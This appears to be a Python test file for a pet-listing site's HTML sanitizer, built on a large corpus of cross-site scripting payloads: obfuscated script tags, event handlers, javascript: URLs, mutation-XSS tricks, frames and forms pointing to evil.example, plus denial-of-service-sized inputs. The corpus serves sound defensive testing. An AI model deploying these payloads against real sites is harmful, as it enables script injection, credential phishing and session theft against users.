"""What hostile descriptions become, judged in a parsed tree that isn't the cleaner's (T25)."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from judged_html import PLAIN, TRACKER, Tree, judge, trackers

from petstream.html import rendered

RUN = "alert(1)"

HANDLERS = [
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'//",
    f'<img/src="x"/onerror="{RUN}">',
    f"<IMG SRC=x ONERROR={RUN}>",
    f"<img src=x on\nerror={RUN}>",
    f"<img src=x onerror\x0b={RUN}>",
    f"<img src=x\x00onerror={RUN}>",
    f"<img src='x' alt='a' onerror\t=\t{RUN}>",
    f'<img src="x` onerror={RUN} alt="`">',
    f'<img alt="<x" src="x" onerror="{RUN}">',
    f'<img title="a>b" src="x" onerror="{RUN}">',
    f"<body onload={RUN}>",
    f"<p onclick={RUN}>tap</p>",
    f"<b onmouseover={RUN}>over</b>",
    f"<div onpointerenter={RUN} tabindex=1 autofocus onfocus={RUN}>x</div>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<video src=x onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<video><source onerror={RUN}></video>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<a href='#' onclick='{RUN}'>x</a>",
    f'<font color="red" onmouseenter="{RUN}">x</font>',
    f"<table background='javascript:{RUN}'><tr><td onclick={RUN}>x</td></tr></table>",
]
SCRIPTS = [
    f"<script>{RUN}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    f"<script/x>{RUN}</script >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN}//<</script>",
    f"<script>{RUN}",
    f"<script type=module>{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href='data:text/javascript,{RUN}'/></svg>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<script>/*</script><script>*/{RUN}</script>",
    f"<ScRiPt\n>{RUN}</sCrIpT\t>",
    f"<script\x00>{RUN}</script>",
    f"\ufeff<script>{RUN}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<template><script>{RUN}</script></template>",
    f"<plaintext><script>{RUN}</script>",
    f"<xmp><script>{RUN}</script></xmp>",
    f"<listing><script>{RUN}</script></listing>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{RUN}",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\u00bcscript\u00be{RUN}\u00bc/script\u00be",
    f"\uff1cscript\uff1e{RUN}",
]
URLS = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"\x1fjavascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"java\r\nscript:{RUN}",
    f"java&Tab;script:{RUN}",
    f"java&NewLine;script:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript&#58;{RUN}",
    f"javascript&#x3a;{RUN}",
    f"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{RUN}",
    f"&#0000106&#0000097vascript:{RUN}",
    f"&#x6A&#x61vascript:{RUN}",
    f"java\x00script:{RUN}",
    f"javascript\x00:{RUN}",
    f"javascript://example.org/%0a{RUN}",
    f"javascript:/*https://example.org*/{RUN}",
    "vbscript:msgbox(1)",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://example.org/1",
    "file:///etc/passwd",
    "filesystem:https://example.org/temporary/x.html",
    "view-source:https://example.org/",
    "about:blank",
    "livescript:x",
    "mocha:x",
    "feed:javascript:alert(1)",
    "jar:https://example.org!/x",
    "intent://example.org#Intent;end",
    "ftp://example.org/x",
    "ws://example.org",
    "x-javascript:alert(1)",
    "/logout",
    "logout?all=1",
    "#top",
    "?delete=1",
    "..//..//admin",
    "\\\\evil.example\\x",
    "/\\evil.example/x",
    "https:evil.example",
    "http://[",
    "https://",
    "",
]
FRAMES = [
    "<iframe src=https://evil.example></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    "<iframe/src=//evil.example",
    "<frameset><frame src=//evil.example></frameset>",
    "<object data=//evil.example/x.swf></object>",
    f"<object type=text/html data='javascript:{RUN}'></object>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=X.class archive=//evil.example/x.jar></applet>",
    "<portal src=//evil.example></portal>",
    "<fencedframe></fencedframe>",
    "<form action=//evil.example><input name=password type=password><button>Log in</button></form>",
    f"<form><button formaction=javascript:{RUN}>x</button></form>",
    f"<isindex action=javascript:{RUN} type=submit>",
    "<base href=//evil.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta charset=utf-7>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example/x.html>",
    "<html manifest=//evil.example/x><head><title>x</title></head></html>",
    "<dialog open>x</dialog>",
    "<img srcset='//evil.example/x 1x' src=https://ok.example/x.jpg>",
    "<img src=https://ok.example/x.jpg usemap=#m><map name=m><area href=javascript:1></map>",
    "<a href=https://ok.example target=_blank ping=//evil.example download>x</a>",
    "<button popovertarget=x>x</button><div popover id=x>y</div>",
    "<img name=cookie id=body class=admin src=https://ok.example/x.jpg>",
    "<p slot=x is=x-y part=z contenteditable>x</p>",
]
STYLES = [
    "<p style='position:fixed;inset:0;background:#fff'>x</p>",
    f"<p style='background:url(javascript:{RUN})'>x</p>",
    f"<p style='width:expression({RUN})'>x</p>",
    "<p style='-moz-binding:url(//evil.example/x.xml)'>x</p>",
    "<p style='behavior:url(#default#time2)'>x</p>",
    "<style>*{background:url(//evil.example)}</style>",
    "<style><img src=x onerror=alert(1)></style>",
    "<style>@import '//evil.example/x.css';",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<center style='x' class='y' id='z'>x</center>",
]
MUTATIONS = [
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x/>#x'></use></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<select><iframe></select><img src=x onerror=alert(1)>",
    "<table><tr><td><a href='javascript:1'>x<table>",
    "<a href='https://ok.example/\"onmouseover=alert(1) x=\"'>x</a>",
    "<a href='https://ok.example/' title='\"><script>alert(1)</script>'>x</a>",
    "<img alt='\"><script>alert(1)</script>' src=https://ok.example/x.jpg>",
    "<img alt=`><script>alert(1)</script>` src=https://ok.example/x.jpg>",
    "<p title='--><script>alert(1)</script>'>x</p>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE html [<!ENTITY x '<script>'>]>&x;",
    "<?xml version='1.0'?><?php echo 1 ?><script>alert(1)</script>",
    "<%= system('x') %><script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)} #{alert(1)} [[alert(1)]]",
    "</div></div></body></html><script>alert(1)</script>",
    "</textarea></title></style></script><script>alert(1)</script>",
    "<p>x</p" + "</div>" * 50 + f"<img src=x onerror={RUN}>",
    "<a href=//ok.example><a href=javascript:alert(1)>nested</a></a>",
    "<b <script>alert(1)</script>0",
    "<img src='x\" onerror=alert(1)",
    "<p/onclick=alert(1)//>x",
    "\u202e<script>alert(1)</script>\u202c",
    "<\x00script>alert(1)</script>",
    "<s\x00cript>alert(1)</script>",
    "<0><script>alert(1)</script>",
    "< script >alert(1)</ script >",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<" * 300 + "script>alert(1)",
    "<p>" * 3_000 + "<script>alert(1)</script>",
]
LINKS = [f'<a href="{url}">x</a>' for url in URLS] + [f"<a href='{url}'>x</a>" for url in URLS]
PICTURES = [f'<img src="{url}" alt="x">' for url in URLS]
CORPUS = [*HANDLERS, *SCRIPTS, *LINKS, *PICTURES, *FRAMES, *STYLES, *MUTATIONS]


@pytest.mark.parametrize("sent", CORPUS)
def test_t25_nothing_hostile_comes_through(sent: str) -> None:
    """T25: alone, among honest markup, and inside of it."""
    for html in (
        sent,
        f"<p>Good cat</p>{sent}<p>Bye</p>",
        f"<table><tr><td><b>{sent}</b></td></tr>",
    ):
        shown = rendered(html, None, TRACKER)
        assert shown is not None
        assert trackers(judge(shown)) == [TRACKER]
        judge(rendered(html, None, None) or "")


@pytest.mark.parametrize("sent", CORPUS)
def test_t25_plain_text_is_shown_as_it_is_written(sent: str) -> None:
    shown = rendered(None, sent, TRACKER)
    assert shown is not None
    tree = judge(shown)
    assert {tag for tag, _ in tree.elements} <= {"br", "img"}
    assert [tag for tag, _ in tree.elements].count("img") == 1


@pytest.mark.parametrize(
    "sent", [*URLS, f'{TRACKER}"><script>alert(1)</script>', f"{TRACKER}' x='"]
)
def test_t25_a_hostile_tracker_is_escaped_or_left_out(sent: str) -> None:
    for html, text in (("<p>x</p>", None), (None, "x"), (None, None)):
        judge(rendered(html, text, sent) or "")


FRAGMENTS = st.lists(
    st.one_of(
        st.sampled_from(CORPUS),
        st.sampled_from(
            ["<", ">", "'", '"', "`", "&", "/", "=", "--", " ", "\t", "\0", "]]>", "<!--"]
        ),
        st.sampled_from(
            ["<p>", "</p>", "<table>", "<td>", "<b>", "</b>", "<a href=", "<img src=", "<svg>"]
        ),
        st.sampled_from([f'<img src="{TRACKER}">', TRACKER, "tracker.rescuegroups.org"]),
        st.text(max_size=8),
    ),
    max_size=8,
).map("".join)


@settings(max_examples=300)
@given(html=FRAGMENTS, text=FRAGMENTS)
def test_t25_no_mixture_of_them_comes_through(html: str, text: str) -> None:
    assert len(trackers(judge(rendered(html, text, TRACKER) or ""))) == 1


@pytest.mark.parametrize(
    "sent",
    [
        "<div>" * 500_000,
        "<b><i><u>" * 100_000,
        "<table><tr><td>" * 100_000,
        f'<img src="{TRACKER}">' * 50_000,
        "<img alt='" + "<img " * 400_000 + "'>",
        "&" * 2_000_000,
        "<" * 2_000_000,
        "<p " + " ".join(f"a{number}" for number in range(300_000)) + ">x",
        "<!--" * 500_000,
        "x" * 4_000_000,
    ],
    ids=lambda sent: sent[:12],
)
def test_t24_a_huge_description_is_shown_in_no_time(sent: str) -> None:
    """T24: some of these took minutes, in which the consumer was thrown out of its group."""
    began = time.monotonic()
    shown = rendered(sent, None, TRACKER) or ""
    again = rendered(sent, "Good cat", TRACKER) or ""
    assert time.monotonic() - began < 5
    assert len(trackers(Tree(shown))) == len(trackers(Tree(again))) == 1
    assert PLAIN.fullmatch(shown)
